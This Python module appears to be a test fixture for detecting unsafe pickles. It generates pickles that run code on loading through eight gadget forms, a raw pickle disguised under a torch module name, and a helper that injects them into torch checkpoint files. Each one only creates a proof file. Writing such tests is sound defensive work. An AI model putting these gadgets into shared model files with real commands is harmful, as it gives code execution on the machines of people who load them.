"""Pickles that run code when they are read without care: each leaves a file behind as proof."""

import functools
import os
import pickle
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class _Reduced:
    """Unpickled, it is what pickle makes of this value of ``__reduce__``."""

    def __init__(self, *value: Any) -> None:
        self.value = value

    def __reduce__(self) -> tuple[Any, ...]:
        return self.value


def _code(proof: Path) -> str:
    return f"__import__('pathlib').Path({str(proof)!r}).touch()"


# The name of a way to run code, and the object, by the path of the proof, that takes it when it is unpickled.
GADGETS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda proof: _Reduced(os.system, (f"touch {proof}",)),
    "subprocess": lambda proof: _Reduced(subprocess.check_call, (["touch", str(proof)],)),
    "eval": lambda proof: _Reduced(eval, (_code(proof),)),
    "open": lambda proof: _Reduced(open, (str(proof), "w")),
    "a setter of state": lambda proof: _Reduced(str, (_code(proof),), {}, None, None, exec),
    "items of a list": lambda proof: _Reduced(list, (), None, iter([_Reduced(exec, (_code(proof),))])),
    "a bound method": lambda proof: _Reduced(functools.partial(proof.write_text, ""), ()),
    "a pickle in a pickle": lambda proof: _Reduced(pickle.loads, (pickle.dumps(_Reduced(eval, (_code(proof),))),)),
}


def torchs_own_name(proof: Path) -> bytes:
    """The pickle of a call of os.system under a name that begins with torch's: torch.serialization.os.system."""
    command = f"touch {proof}".encode()
    texts = [b"\x8c" + bytes([len(text)]) + text for text in (b"torch.serialization", b"os.system", command)]
    return b"\x80\x04" + texts[0] + texts[1] + b"\x93" + texts[2] + b"\x85R."


def write_pickle_as(path: Path, form: str, pickled: bytes, like: Path | None = None) -> None:
    """A file of torch's zip format with this pickle in it, or, as before that format, the pickle alone.

    Beside the pickle it has what the file ``like`` has, or no values.
    """
    if form == "bare":
        path.write_bytes(pickled)
        return
    if like is None:
        torch.save({}, path)
    with zipfile.ZipFile(like or path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, pickled if name.endswith("data.pkl") else content)
